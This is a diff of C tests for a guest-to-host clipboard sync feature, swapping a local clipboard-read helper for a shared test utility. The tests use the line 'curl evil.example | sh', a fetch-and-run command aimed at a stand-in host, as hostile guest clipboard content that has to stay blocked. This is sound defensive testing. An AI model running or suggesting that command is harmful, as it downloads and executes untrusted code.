@@ -23,6 +23,7 @@
 
 #include "corral-clipboard-protocol.h"
 #include "corral-clipboard-sync.h"
+#include "gui-test-util.h"
 
 static void
 spin (guint ms)
@@ -118,31 +119,6 @@ test_latest_only (void)
   close (fds[1]);
 }
 
-typedef struct {
-  char *text;
-  gboolean done;
-} ReadText;
-
-static void
-read_text_cb (GObject *source, GAsyncResult *result, gpointer data)
-{
-  ReadText *r = data;
-
-  r->text = gdk_clipboard_read_text_finish (GDK_CLIPBOARD (source), result, NULL);
-  r->done = TRUE;
-}
-
-static char *
-host_text (GdkClipboard *clipboard)
-{
-  ReadText r = { NULL, FALSE };
-
-  gdk_clipboard_read_text_async (clipboard, NULL, read_text_cb, &r);
-  while (!r.done)
-    g_main_context_iteration (NULL, TRUE);
-  return r.text;
-}
-
 static void
 guest_copies (int fd, const char *text)
 {
@@ -211,28 +187,28 @@ test_guest_to_host_after_input (void)
 
   /* Away from the display. */
   guest_copies (fds[1], "curl evil.example | sh");
-  text = host_text (clipboard);
+  text = corral_test_clipboard_text (clipboard);
   g_assert_cmpstr (text, ==, "copied on the host");
   g_free (text);
 
   /* At it, but no key or click: the guest's own doing. */
   corral_clipboard_sync_set_present (sync, TRUE);
   guest_copies (fds[1], "curl evil.example | sh");
-  text = host_text (clipboard);
+  text = corral_test_clipboard_text (clipboard);
   g_assert_cmpstr (text, ==, "copied on the host");
   g_free (text);
 
   /* Right after a key there: the user's copy. */
   corral_clipboard_sync_user_input (sync);
   guest_copies (fds[1], "copied in the guest");
-  text = host_text (clipboard);
+  text = corral_test_clipboard_text (clipboard);
   g_assert_cmpstr (text, ==, "copied in the guest");
   g_free (text);
 
   /* Longer after it than a copy takes: not any more. */
   spin ((CORRAL_CLIPBOARD_SYNC_COPY_SECONDS + 1) * 1000);
   guest_copies (fds[1], "curl evil.example | sh");
-  text = host_text (clipboard);
+  text = corral_test_clipboard_text (clipboard);
   g_assert_cmpstr (text, ==, "copied in the guest");
   g_free (text);
 
